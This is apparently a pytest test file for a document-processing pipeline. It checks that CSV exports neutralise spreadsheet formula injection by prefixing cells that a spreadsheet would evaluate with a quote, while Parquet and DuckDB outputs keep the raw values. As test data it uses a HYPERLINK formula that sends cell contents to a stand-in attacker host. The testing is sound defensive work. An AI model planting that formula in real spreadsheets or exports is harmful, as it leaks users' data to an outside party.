"""CSV formula injection: cells a spreadsheet would evaluate get a leading ' in the CSVs, and only there."""

from __future__ import annotations

import csv
import io

import duckdb
import pandas as pd
import pytest

from pipeline.audit.decisions import apply_decisions, read_outcomes
from pipeline.dataset.database import FILE_NAME as DATABASE
from pipeline.dataset.safe_csv import FORMULA_STARTS, neutralise_cell, restore_cell, spreadsheet_safe, write_csv
from pipeline.write import write_tables

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")'
# text a spreadsheet would evaluate, one per trigger OWASP lists, and the full-width ones
FORMULAS = ["=1+1", "+41 22", "-3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－３％", "＠SUM(A1)"]
HARMLESS = ["約2.6万TEU", "3-4月", "a=b", " =1+1", ""]


def one_article(title: str = "前の表") -> dict[str, list[dict]]:
    """The least a figure needs: its document, its page and its article."""
    return {
        "documents": [{"doc_id": "d", "source": "d.pdf", "status": "ok"}],
        "pages": [{"doc_id": "d", "page_index": 0}],
        "articles": [{"doc_id": "d", "article_id": "d-01", "title": title}],
    }


def figure(number: int, surface: str, value: float | None = None, unit: str | None = None) -> dict:
    return {"doc_id": "d", "article_id": "d-01", "figure_id": f"d-01-f{number:03d}", "surface": surface, "value": value, "unit": unit}


def csv_rows(path) -> list[dict[str, str]]:
    """The CSV's cells exactly as a spreadsheet gets them (no type guessing)."""
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


# --- one cell --------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_evaluate_gets_a_quote(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text):
    assert neutralise_cell(text) == text


@pytest.mark.parametrize("value", [-3.5, -3, None, True, pd.NA])
def test_values_that_are_not_text_are_left_alone(value):
    assert neutralise_cell(value) is value


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS, "'already quoted", "'=1+1", "''"])
def test_the_quote_comes_off_again_exactly(text):
    assert restore_cell(neutralise_cell(text)) == text


def test_every_trigger_is_tested():
    assert {text[0] for text in FORMULAS} == set(FORMULA_STARTS) - {"\0"}
    assert neutralise_cell("\0=1+1") == "'\0=1+1"


def test_the_frame_given_is_not_changed_and_numbers_keep_their_type():
    frame = pd.DataFrame({"text": pd.array(["=1+1", None, "ok"], dtype="string"), "value": [-3.5, None, 2.0]})
    safe = spreadsheet_safe(frame)
    assert list(frame["text"].fillna("NA")) == ["=1+1", "NA", "ok"]
    assert list(safe["text"].fillna("NA")) == ["'=1+1", "NA", "ok"]
    assert safe["value"].dtype == "float64" and safe.loc[0, "value"] == -3.5
    assert safe.to_csv(index=False) == "text,value\n'=1+1,-3.5\n,\nok,2.0\n"


# --- the tables as written -------------------------------------------------------


@pytest.fixture
def written(tmp_path):
    """Figures whose surfaces are every formula and every harmless text; negative values."""
    surfaces = [*FORMULAS, *HARMLESS[:-1]]
    figures = [figure(n + 1, surface, value=-3.5 - n, unit="-3" if n == 0 else "t") for n, surface in enumerate(surfaces)]
    write_tables(tmp_path, {**one_article(title=HYPERLINK), "figures": figures})
    return tmp_path, surfaces


def test_formula_cells_are_neutralised_in_the_csv(written):
    out, surfaces = written
    rows = csv_rows(out / "figures.csv")
    assert [row["surface"] for row in rows] == [neutralise_cell(surface) for surface in surfaces]
    assert rows[0]["surface"] == "'=1+1" and rows[-1]["surface"] == " =1+1"
    assert csv_rows(out / "articles.csv")[0]["title"] == "'" + HYPERLINK


def test_a_text_cell_like_minus_three_is_prefixed_but_negative_numbers_stay_numbers(written):
    out, _ = written
    rows = csv_rows(out / "figures.csv")
    assert rows[0]["unit"] == "'-3"  # a string column: OWASP says prefix it
    assert [row["value"] for row in rows[:2]] == ["-3.5", "-4.5"]  # a number column: untouched
    assert pd.read_csv(out / "figures.csv")["value"].dtype == "float64"


def test_parquet_and_duckdb_keep_the_values_as_they_are(written):
    out, surfaces = written
    parquet = pd.read_parquet(out / "figures.parquet")
    assert list(parquet["surface"]) == surfaces
    assert parquet.loc[0, "unit"] == "-3"
    assert pd.read_parquet(out / "articles.parquet").loc[0, "title"] == HYPERLINK
    with duckdb.connect(str(out / DATABASE), read_only=True) as database:
        assert [row[0] for row in database.execute("SELECT surface FROM figures ORDER BY figure_id").fetchall()] == surfaces
        assert database.execute("SELECT title FROM articles").fetchone()[0] == HYPERLINK


def test_a_csv_without_formulas_is_what_pandas_writes_with_crlf(tmp_path):
    """Besides the prefix, the only change is RFC 4180's CRLF line ending."""
    tables = {**one_article(), "figures": [figure(1, "約2.6万TEU", value=26000.0, unit="TEU")]}
    write_tables(tmp_path, tables)
    expected = pd.read_parquet(tmp_path / "figures.parquet").to_csv(index=False, lineterminator="\r\n")
    assert (tmp_path / "figures.csv").read_bytes() == expected.encode("utf-8")


def test_a_carriage_return_inside_a_cell_cannot_start_a_row_with_a_formula(tmp_path):
    """Unquoted, "note\\r=..." would be two rows to a spreadsheet, the second starting with a live formula."""
    path = tmp_path / "t.csv"
    write_csv(pd.DataFrame({"note": ["see\r" + HYPERLINK, "two\nlines"], "value": [-1.5, 2.0]}), path)
    assert csv_rows(path) == [{"note": "see\r" + HYPERLINK, "value": "-1.5"}, {"note": "two\nlines", "value": "2.0"}]
    assert b'"see\r=HYPERLINK' in path.read_bytes()


def test_an_auditors_hyperlink_correction_comes_out_neutralised(tmp_path):
    """decisions.csv is the auditor's text: a correction reaches the tables, and the CSVs neutralised."""
    tables = {**one_article(), "figures": [figure(1, "約2.6万TEU", value=26000.0, unit="TEU")]}
    decisions = tmp_path / "audit" / "decisions.csv"
    decisions.parent.mkdir(parents=True)
    with open(decisions, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "table", "decision", "field", "value", "surface", "note"])
        writer.writerow(["d-01-f001", "figures", "corrected", "unit", HYPERLINK, "約2.6万TEU", "=1+1"])
    report = apply_decisions(tmp_path, tables, stream=io.StringIO())
    assert [outcome.outcome for outcome in report.outcomes] == ["applied"]
    write_tables(tmp_path, tables)

    [row] = csv_rows(tmp_path / "figures.csv")
    assert row["unit"] == "'" + HYPERLINK and row["audit_status"] == "corrected"
    assert pd.read_parquet(tmp_path / "figures.parquet").loc[0, "unit"] == HYPERLINK

    with open(tmp_path / "audit" / "decisions-outcome.csv", encoding="utf-8-sig", newline="") as handle:
        [outcome] = list(csv.DictReader(handle))
    assert outcome["value"] == "'" + HYPERLINK and outcome["note"] == "'=1+1"  # the auditor opens this one too
    [read_back] = read_outcomes(tmp_path)
    assert read_back["value"] == HYPERLINK and read_back["note"] == "=1+1" and read_back["outcome"] == "applied"
